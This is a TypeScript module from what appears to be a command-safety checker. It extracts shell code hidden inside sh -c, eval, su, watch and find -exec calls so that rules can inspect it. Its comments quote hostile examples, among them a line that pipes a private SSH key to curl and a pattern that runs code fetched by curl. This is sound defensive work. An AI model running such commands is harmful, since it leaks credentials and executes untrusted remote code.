/**
 * Where an (unwrapped) command runs more shell code: `sh -c CODE`, `eval ARGS…`, `su -c CODE`,
 * `watch CMD…`, and the commands `find -exec … ;` runs. Interpreters' one-liners (python -c,
 * node -e…) are not shell and are left to rules as plain arguments. Pure.
 */
import { type ArgWord, wordInfo } from './words.js';

export const SHELLS: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh']);

/** Shell code a command runs; `literal` false when it is only known at run time. */
export interface ShellCode {
  readonly code: string;
  readonly via: 'sh-c' | 'eval';
  readonly literal: boolean;
}

/**
 * Whether words can be parsed as the code they stand for: no substitution (its output is the
 * code), and not only parameter expansions (`sh -c "$X"`, `eval $CMD`). Plain `$VAR`s inside
 * otherwise literal code are kept as written, as in any other argument.
 */
function literalWords(words: readonly ArgWord[]): boolean {
  let allPure = true;
  for (const w of words) {
    const info = wordInfo(w);
    // `sh -c "$(curl …)"`: the code is the substitution's output. Code that merely contains one
    // (`bash -c "cat ~/.ssh/id_rsa | curl -d $(hostname) x"`) is still parsed, or wrapping a line
    // in bash -c "…" would hide it from every structural rule.
    if (info.subst && isOnlySubstitution(w)) return false;
    if (!info.pure) allPure = false;
  }
  return !allPure;
}

function isOnlySubstitution(w: ArgWord): boolean {
  const node = w.node;
  if (node === undefined || node.type === 'Assignment') return /^\s*(\$\([\s\S]*\)|`[\s\S]*`)\s*$/.test(w.value);
  const parts = node.parts ?? [];
  const only = parts.length === 1 ? parts[0] : undefined;
  const inner = only?.type === 'DoubleQuoted' && only.parts.length === 1 ? only.parts[0] : only;
  return inner?.type === 'CommandExpansion' || inner?.type === 'ProcessSubstitution';
}

/** `bash -lc CODE`, `sh -e -c CODE`, `bash -o pipefail -c CODE`: the first operand after -c. */
function shellDashC(args: readonly ArgWord[]): ArgWord | undefined {
  let sawC = false;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    if (v === '--' || v === '-') return sawC ? args[i + 1] : undefined;
    if (v === '--rcfile' || v === '--init-file') i++;
    if (/^--[a-z]/.test(v)) continue;
    if (/^[-+][A-Za-z]+$/.test(v)) {
      if (v[0] === '-' && v.includes('c')) sawC = true;
      // -o OPTION / +O SHOPT take the next word.
      if (/[oO]$/.test(v)) i++;
      continue;
    }
    return sawC ? args[i] : undefined;
  }
  return undefined;
}

/** `su [user] -c CODE`, `su --command=CODE`. */
function suDashC(args: readonly ArgWord[]): ArgWord | undefined {
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    if (v === '-c' || v === '--command' || v === '--session-command') return args[i + 1];
    const m = /^--(?:session-)?command=(.*)$/s.exec(v);
    if (m !== null) return { value: m[1]!, node: args[i]!.node };
  }
  return undefined;
}

/** `watch [-n SECS] [-x] CMD…`: watch passes the joined words to `sh -c` (or execs them with -x). */
function watchWords(args: readonly ArgWord[]): readonly ArgWord[] {
  let i = 0;
  while (i < args.length && args[i]!.value.startsWith('-')) {
    const v = args[i]!.value;
    i++;
    if (v === '--') break;
    if (/^-[a-z]*[nq]$/.test(v) || v === '--interval' || v === '--equexit') i++;
  }
  return args.slice(i);
}

/** The shell code run by this command (`name` unwrapped, `args` after the command word), if any. */
export function shellCode(name: string, args: readonly ArgWord[]): ShellCode | undefined {
  let words: readonly ArgWord[] = [];
  let via: 'sh-c' | 'eval' = 'sh-c';
  if (SHELLS.has(name)) {
    const code = shellDashC(args);
    if (code !== undefined) words = [code];
  } else if (name === 'eval') {
    words = args;
    via = 'eval';
  } else if (name === 'su') {
    const code = suDashC(args);
    if (code !== undefined) words = [code];
  } else if (name === 'watch') {
    words = watchWords(args);
  }
  if (words.length === 0) return undefined;
  return { code: words.map((w) => w.value).join(' '), via, literal: literalWords(words) };
}

/** The command lines `find … -exec CMD … ;` (also -execdir, -ok, -okdir, `+`) runs. */
export function findExecs(args: readonly ArgWord[]): ArgWord[][] {
  const out: ArgWord[][] = [];
  for (let i = 0; i < args.length; i++) {
    if (!/^-(?:exec|execdir|ok|okdir)$/.test(args[i]!.value)) continue;
    const cmd: ArgWord[] = [];
    let j = i + 1;
    for (; j < args.length; j++) {
      const v = args[j]!.value;
      if (v === ';' || (v === '+' && args[j - 1]?.value === '{}')) break;
      cmd.push(args[j]!);
    }
    if (cmd.length > 0) out.push(cmd);
    i = j;
  }
  return out;
}
